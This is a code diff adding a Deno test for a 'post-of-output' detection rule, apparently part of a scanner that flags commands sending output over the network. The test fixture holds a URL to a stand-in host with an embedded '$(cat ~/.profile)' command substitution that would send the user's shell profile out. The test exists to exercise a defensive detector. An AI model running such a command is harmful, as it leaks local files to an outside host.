@@ -88,3 +88,11 @@ Deno.test("the check of bounds finds what it is for", () => {
     80,
   ]]);
 });
+
+Deno.test("the scheme of an address is no program that sends: no search starts at each of them", () => {
+  const rule = ruleTable.find(({ id }) => id === "post-of-output");
+  assert.ok(rule && "pattern" in rule);
+  const sent = "https://a.example.co/x?$(cat ~/.profile)";
+  assert.equal(rule.pattern.exec(`see http://b.example.co ${sent}`), null);
+  assert.equal(rule.pattern.exec(`http ${sent}`)?.index, 0);
+});
